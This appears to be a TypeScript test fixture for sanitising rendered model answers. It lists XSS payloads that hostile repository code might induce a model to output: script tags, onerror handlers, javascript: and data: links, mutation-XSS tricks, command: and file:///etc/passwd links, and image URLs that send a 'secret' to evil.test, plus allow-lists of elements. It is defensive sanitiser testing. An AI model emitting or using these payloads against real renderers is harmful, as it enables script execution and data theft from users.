/** Answers that a model may be talked into by hostile code in a repository. Each would set `window.pwned` or load something. */
export const HOSTILE: Record<string, string> = {
  'script': '<script>window.pwned = 1</script>\n\ntext <script>window.pwned = 1</script>',
  'script, cut in streaming': '<scr<script>ipt>window.pwned = 1</scr</script>ipt>',
  'picture with a handler': '<img src=x onerror="window.pwned = 1"> and ![x](http://evil.test/p.png "t\\" onerror=window.pwned=1")',
  'picture that reports': '![secret](https://evil.test/?q=secret) ![a](//evil.test/a) ![ref][r]\n\n[r]: http://evil.test/ref.png',
  'javascript link': '[go](javascript:window.pwned=1) [go](JaVaScRiPt:window.pwned=1) [go](java\tscript:window.pwned=1) [go](&#106;avascript:window.pwned=1) <javascript:window.pwned=1>',
  'command link': '[go](command:workbench.action.terminal.new) [go](vscode://file/etc/passwd) [go](file:///etc/passwd) [go](vscode-webview://x)',
  'data link': '[go](data:text/html,<script>window.pwned=1</script>) ![x](data:image/svg+xml,<svg/onload=window.pwned=1>) <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  'vector graphics': '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x dur=1s><script>window.pwned=1</script></svg>',
  'mathematics': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></table></math>',
  'mutation': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  'mutation in a namespace': '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  'template': '<template><script>window.pwned=1</script></template><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'frames': '<iframe src="http://evil.test/"></iframe><object data="http://evil.test/o"></object><embed src="http://evil.test/e"><frame src=javascript:window.pwned=1>',
  'form': '<form action="http://evil.test/"><input name=q autofocus onfocus=window.pwned=1><button formaction=javascript:window.pwned=1>Go</button></form>',
  'page elements': '<base href="http://evil.test/"><meta http-equiv=refresh content="0;url=http://evil.test/"><link rel=stylesheet href=http://evil.test/s.css>',
  'style': '<style>@import "http://evil.test/i.css"; body { background: url(http://evil.test/b) }</style><p style="background:url(http://evil.test/p)">x</p>',
  'comment': '<!-- --><img src=x onerror=window.pwned=1>\n\n<!--> <img src=x onerror=window.pwned=1> -->\n\n<![CDATA[ <img src=x onerror=window.pwned=1> ]]>\n\n<?php <img src=x onerror=window.pwned=1> ?>',
  'code fence’s language': '```"><img src=x onerror=window.pwned=1>\ncode\n```\n\n```js onload=window.pwned=1 style=x\n<img src=x onerror=window.pwned=1>\n```',
  'code span': '`<img src=x onerror=window.pwned=1>` ``</code><script>window.pwned=1</script>``',
  'fence that never ends': '```html\n<img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n',
  'table': '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |',
  'titles and references': '[x](http://evil.test/ "\\"onmouseover=window.pwned=1") [y][z]\n\n[z]: javascript:window.pwned=1 "t"',
  'entities': '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62; &#x3c;svg onload=window.pwned=1&#x3e; &#0; &#x110000; &#xD800;',
  'names of the page': '<div id="ask" name="sent"><a id=sent><a id=sent name=postMessage href=javascript:window.pwned=1></div>',
  'actions': '<button data-action="forget-all">x</button> <span data-href="command:x" data-action="browse" data-address="http://evil.test">x</span>',
  'prototype': '[x](__proto__:1) `__proto__:1` `constructor` [constructor]: x\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  'nesting': `${'>'.repeat(3000)} x\n\n${'- '.repeat(300)}x`,
  'brackets': '['.repeat(3000) + '![' .repeat(1000) + '*a **b '.repeat(500),
};

/** Elements that answers may have, and no others. */
export const ALLOWED = new Set([
  'p', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'ol', 'li', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'pre', 'code', 'span',
  'strong', 'em', 'del', 'hr', 'br', 'a', 'input', 'button', 'svg', 'path',
]);

export const ALLOWED_ATTRIBUTES = new Set([
  'class', 'start', 'type', 'disabled', 'checked', 'tabindex', 'role', 'aria-label', 'aria-hidden', 'title', 'viewBox', 'd', 'href',
  'data-href', 'data-icon', 'data-action', 'data-address', 'data-note', 'dir',
]);
